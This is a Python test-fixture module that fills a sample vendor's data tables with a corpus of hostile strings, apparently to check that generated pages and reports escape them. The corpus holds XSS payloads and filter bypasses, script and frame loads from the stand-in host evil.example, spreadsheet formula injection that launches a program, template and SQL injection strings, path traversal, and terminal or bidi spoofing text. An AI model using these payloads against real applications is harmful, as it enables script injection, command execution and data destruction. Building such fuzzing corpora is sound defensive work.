"""Text that means to run, to load or to break a page, and a vendor whose every name, id and remark is such a text."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import yaml

from channelnb.book.sample import write_sample
from channelnb.book.tables import CONTRACT

PWNED = "window.pwned=1"
"""What an injected script does, if one runs."""

_SCRIPTS = (
    f"<script>{PWNED}</script>",
    f"<ScRiPt >{PWNED}</sCrIpT >",
    f"<script\n>{PWNED}\n</script\n>",
    f"<<script>{PWNED}//<</script>",
    f"<scr<script>ipt>{PWNED}</scr</script>ipt>",
    f"\"'><script>{PWNED}</script>",
    f"</script><script>{PWNED}</script>",
    f"</title><script>{PWNED}</script>",
    f"</style><script>{PWNED}</script>",
    f"</textarea><script>{PWNED}</script>",
    f"--><script>{PWNED}</script>",
    f"]]><script>{PWNED}</script>",
    '<script src="https://evil.example/x.js"></script>',
    "<script src=//evil.example/x.js>",
    f'<script type="text/mermaid">{PWNED}</script>',
    f"&lt;script&gt;{PWNED}&lt;/script&gt;",
    f"&#60;script&#62;{PWNED}&#60;/script&#62;",
    f"\uff1cscript\uff1e{PWNED}\uff1c/script\uff1e",
)
_HANDLERS = (
    f'"><img src=x onerror={PWNED}>',
    f"'><img src=x onerror='{PWNED}'>",
    f'<img src=x onerror="{PWNED}">',
    f"<img/src=x/onerror={PWNED}>",
    f"<img src=`x`onerror={PWNED}>",
    f"<IMG SRC=x OnErRoR={PWNED}>",
    f'" onmouseover="{PWNED}" autofocus onfocus="{PWNED}" x="',
    f"' onmouseover='{PWNED}' autofocus onfocus='{PWNED}' x='",
    f"x onfocus={PWNED} autofocus tabindex=1",
    f"<body onload={PWNED}>",
    f"<details open ontoggle={PWNED}>",
    f"<video><source onerror={PWNED}></video>",
    f"<input autofocus onfocus={PWNED}>",
    f"<marquee onstart={PWNED}>",
    f"<audio src=x onerror={PWNED}>",
)
_VECTORS = (
    f"<svg onload={PWNED}>",
    f"<svg><script>{PWNED}</script></svg>",
    f"<svg><animate onbegin={PWNED} attributeName=x dur=1s>",
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={PWNED}>#x"/></svg>',
    f"<svg><foreignObject><img src=x onerror={PWNED}></foreignObject></svg>",
    f"<math><mtext></p><style><img src=x onerror={PWNED}></style></mtext></math>",
    f"<svg><style><img src=x onerror={PWNED}></style></svg>",
    f'<noscript><p title="</noscript><img src=x onerror={PWNED}>">',
    f"<template><script>{PWNED}</script></template>",
    f"<select><template><img src=x onerror={PWNED}></template></select>",
    f"<table><td><svg><desc><td><img src=x onerror={PWNED}></desc></svg>",
    f'<iframe srcdoc="<script>parent.{PWNED}</script>"></iframe>',
    "<iframe src=https://evil.example/></iframe>",
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
)
_PAGES = (
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    '<p style="position:fixed;inset:0;background:url(https://evil.example/x.png)">',
    "};body{background:url(https://evil.example/x.png)}",
    f'<form action="https://evil.example/"><button autofocus onfocus={PWNED}>Go</button></form>',
    '<h1 id="content">Another title</h1>',
    '<img src="https://evil.example/x.png" alt="">',
    '<data value="1" data-fact="revenue||2026Q3|actual">9</data>',
    "<!-- a comment that never ends",
    "<![CDATA[ a section that never ends",
    "<table><tr><td>never closed",
    '<a href="never closed',
    "</p></td></tr></table></section></main></body></html>",
    "<plaintext>",
    "<?php echo 1 ?> <% code %>",
)
_LINKS = (
    f'<a href="javascript:{PWNED}">a firm</a>',
    f'<a href="java\nscript:{PWNED}">a firm</a>',
    f'<a href=" \x01javascript:{PWNED}">a firm</a>',
    f'<a href="&#106;avascript&colon;{PWNED}">a firm</a>',
    f'<a href="vbscript:{PWNED}">a firm</a>',
    f'<a href="data:text/html,<script>{PWNED}</script>">a firm</a>',
    f"javascript:{PWNED}",
    f"[a firm](javascript:{PWNED})",
    "![a picture](https://evil.example/x.png)",
    "<https://evil.example/>",
    "[a firm]: https://evil.example/ 'x'",
    "//evil.example/x",
)
_MARKUP = (
    '```mermaid\ngraph TD; A-->B; click A "javascript:window.pwned=1"\n```',
    "application/vnd.mermaid: graph TD",
    "# A heading\n\n## Another one",
    "a | b\n--|--\n1 | 2",
    "$\\frac{1}{0}$ and $x$",
    "$$\\href{javascript:window.pwned=1}{x}$$",
    "\\( \\unknown{x} \\) \\[ y \\]",
    "**bold** _soft_ `code` ~~gone~~",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ ''.__class__.__mro__ }}",
    "{% raw %}{% for x in y %}",
    "{0} {name} {{",
    "%s %d %(name)s 100%",
    "${7*7} #{7*7} <%= 7*7 %>",
    "c0",
    "\\1 \\g<0> $1 $& \\u003cscript\\u003e",
)
_CELLS = (
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/","a firm")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    '","=1+1","',
    'a;"=1+1;b',
    'a; "" =1+1;b',
)
_ODD = (
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x1b[2J\x1b[H",
    "a\x00b\x08\x7f\x9bc",
    "\u202egnp.exe\u202c",
    "\u2066left\u2069 \u200fright\u200e",
    "ze\u200bro\u200d\ufeff width",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dalgo",
    "\U0001f3f4\U000e0067\U000e0062 \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\\ud800\\udfff \ufffd \ufffe",
    "W" * 150,
    "Line one\nLine two\r\nLine three",
    "'\"`\u00b4\u2019\u00ab\u00bb&&amp;&#39;",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "CON",
    "NUL.txt",
    "C:\\Users\\Ann\\report.xlsx",
    "-rf *",
    "null",
    "nan",
    "1e999",
    'Traceback (most recent call last):\n  File "/srv/secret/x.py", line 1, in <module>\nValueError: boo',
    "' OR 1=1; DROP TABLE partners; --",
    "a|b,c=d;e",
)

CORPUS: tuple[str, ...] = (*(_SCRIPTS + _HANDLERS + _VECTORS + _PAGES + _LINKS + _MARKUP + _TEMPLATES + _CELLS + _ODD),)
"""Every string, each once."""

_LEFT = frozenset({"currency", "metric", "quarter", "year", "edition", "area", "lines"})
"""Columns whose words channelnb itself knows, besides those of a few choices."""
_FIRM = ("parent_id", "distributor_id", "merged_into")

TRAITS, EXTRA, VENDOR = 900, 990, 992
"""The places of the texts that are columns' names, of the columns added, and of the vendor's name."""

Texts = Mapping[tuple[str, str], str]


def evil(place: int) -> str:
    """The text that stands in the place of the n-th value: one of the corpus, and its number, as ids must differ."""
    return f"{CORPUS[place % len(CORPUS)]} {place}"


def plain(place: int) -> str:
    """A harmless text in the same place."""
    return f"Plain {place}"


def write_vendor(folder: Path, text: Callable[[int], str], *, about: tuple[str, ...], partners: int) -> Texts:
    """Write the sample's vendor with `text` in place of each name, id, label and remark; what stands for what.

    The texts in the rows of the partners `about` come first, so that a report of theirs shows all. The result tells
    of each domain (the column, or the table and ``name``) and value of the sample what stands in its place.
    """
    write_sample(folder, partners=partners)
    tables = {name: pq.read_table(folder / f"{name}.parquet") for name in CONTRACT}
    texts = _texts(tables, text, about)
    for name, table in tables.items():
        for column in _columns(name, table):
            key = _domain(name, column)
            table = _with(table, column, [texts.get((key, value)) for value in table[column].to_pylist()])
        if name == "candidates":
            table = _with(table, "lines", [_lines(value, texts) for value in table["lines"].to_pylist()])
        traits = [column for column in table.column_names if column.startswith("trait_")]
        named = {column: f"trait_{text(TRAITS + number)}" for number, column in enumerate(traits)}
        table = table.rename_columns([named.get(column, column) for column in table.column_names])
        if name == "notes":
            table = pa.concat_tables([table, _remarks(table.schema, text, firm=texts["partner_id", about[0]])])
        # A column that the contract doesn't know is kept, whatever it is called.
        table = table.append_column(text(EXTRA), pa.array([text(EXTRA + 1)] * len(table)))
        pq.write_table(table, folder / f"{name}.parquet")
    _write_source(folder / "source.yaml", text)
    return texts


def _remarks(schema: pa.Schema, text: Callable[[int], str], *, firm: str) -> pa.Table:
    """A remark of each text for a partner's review, so that a page shows them all."""
    about = {"partner_id": firm, "quarter": "2026Q3", "edition": "partner"}
    rows = [{**about, "text": text(place), "author": text(place)} for place in range(len(CORPUS))]
    return pa.Table.from_pylist(rows, schema=schema)


def _with(table: pa.Table, column: str, values: list[Any]) -> pa.Table:
    return table.set_column(table.column_names.index(column), column, pa.array(values, pa.string()))


def _texts(tables: Mapping[str, pa.Table], text: Callable[[int], str], about: tuple[str, ...]) -> Texts:
    found: dict[tuple[str, str], str] = {}
    for name, table in tables.items():
        owners = table["partner_id"].to_pylist() if "partner_id" in table.column_names else []
        for column in _columns(name, table):
            values = table[column].to_pylist()
            first = [value for value, owner in zip(values, owners, strict=False) if owner in about]
            for value in dict.fromkeys(first + values):
                if value is not None:
                    found.setdefault((_domain(name, column), value), text(len(found)))
    return found


def _columns(name: str, table: pa.Table) -> list[str]:
    """The columns of text that a vendor fills in freely."""
    known = CONTRACT[name].by_name
    return [
        column
        for column in table.column_names
        if column in known and known[column].sql_type == "VARCHAR" and not known[column].choices
        if column not in _LEFT
    ]


def _domain(name: str, column: str) -> str:
    if column in _FIRM:
        return "partner_id"
    return f"{name}.{column}" if column in ("name", "kind", "reason", "status", "role") else column


def _lines(value: Any, texts: Texts) -> Any:
    return value if value is None else ";".join(texts["line", line] for line in value.split(";"))


def _write_source(path: Path, text: Callable[[int], str]) -> None:
    content = yaml.safe_load(path.read_text(encoding="utf-8"))
    path.write_text(yaml.safe_dump(content | {"name": text(VENDOR)}, allow_unicode=True), encoding="utf-8")
